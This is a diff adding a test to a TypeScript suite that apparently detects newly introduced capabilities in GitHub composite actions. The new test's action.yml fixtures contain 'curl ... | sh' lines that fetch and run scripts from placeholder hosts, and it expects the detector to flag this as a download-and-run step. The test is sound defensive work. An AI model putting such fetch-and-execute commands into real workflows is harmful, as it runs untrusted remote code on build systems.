@@ -102,6 +102,16 @@ describe('what an action newly does', () => {
     expect(found.capabilities).toEqual([]);
   });
 
+  it('is told of a script from another host, though it always ran one from its own', async () => {
+    const step = (more: string): string =>
+      `runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n        curl -s https://own.example/i.sh | sh\n${more}`;
+    const found = await delta(
+      { 'action.yml': step('') },
+      { 'action.yml': step('        curl -s https://else.example/i.sh | sh\n') },
+    );
+    expect(seen(found)).toContain('download-and-run action.yml:7 startup');
+  });
+
   it('is asked of the action in the folder that is used, with the actions beside it that it uses', async () => {
     const inner = (line: string): string =>
       `runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: ${line}\n`;
